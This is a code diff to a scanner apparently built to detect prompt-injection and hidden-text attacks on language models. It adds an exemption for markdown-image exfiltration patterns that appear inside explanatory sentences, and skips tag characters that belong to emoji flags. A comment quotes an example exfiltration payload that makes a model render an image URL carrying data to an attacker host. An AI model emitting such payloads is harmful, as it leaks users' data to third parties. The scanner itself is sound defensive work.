@@ -577,12 +577,32 @@ HIDDEN = re.compile(
 JOINING_SCRIPTS = re.compile("[\u0600-\u06ff\u0750-\u077f\u0900-\u0dff\ufb50-\ufdff]")
 
 
+# a sentence that explains a technique: "Markdown image exfiltration works by making the model
+# render ![x](https://attacker/?q=DATA)"
+EXPLAINING = re.compile(
+    r"(?i)\b(?:works by|is done by|technique|attacks?|attackers?|exfiltration|for this reason|"
+    r"for example|e\.g\.|such as|defen[cs]es?|mitigations?)\b"
+)
+
+
+def explained(text: str, start: int) -> bool:
+    sentence_start = max(text.rfind(". ", 0, start), text.rfind("\n", 0, start), start - 200) + 1
+    return bool(EXPLAINING.search(text, sentence_start, start))
+
+
+# a subdivision flag (🏴 + tag letters + cancel tag): an emoji, not hidden text
+FLAG_TAGS = re.compile("\U0001f3f4[\U000e0061-\U000e007a]{2,6}\U000e007f")
+
+
 def hidden(text: str) -> Iterator[Hit]:
     """Tag characters and bidi overrides always; zero-width characters when there are several
     or one splits a word (one stray zero-width space between words is an editor's, not an
     attack), never a ZWNJ inside a word of a script that spells with it."""
     found = []
+    flags = [m.span() for m in FLAG_TAGS.finditer(text)]
     for match in HIDDEN.finditer(text):
+        if any(a < match.start() < b for a, b in flags):
+            continue
         char, start = match.group(), match.start()
         if start == 0 and char == "\ufeff":
             continue  # a byte-order mark opening the text
@@ -645,6 +665,8 @@ def scan(text: str) -> list[Hit]:
             for match in pattern.finditer(text):
                 start, end = match.span()
                 documented = name == "role_marker" and index < 2 and about_templates(text, start)
+                if name == "exfiltration" and index == 1:  # a markdown image
+                    documented = documented or explained(text, start)
                 if mentioned(text, start, end) or documented:
                     confidence_here = TALKED_ABOUT
                 elif combos.NEGATED.search(text[max(0, start - 20) : start]):
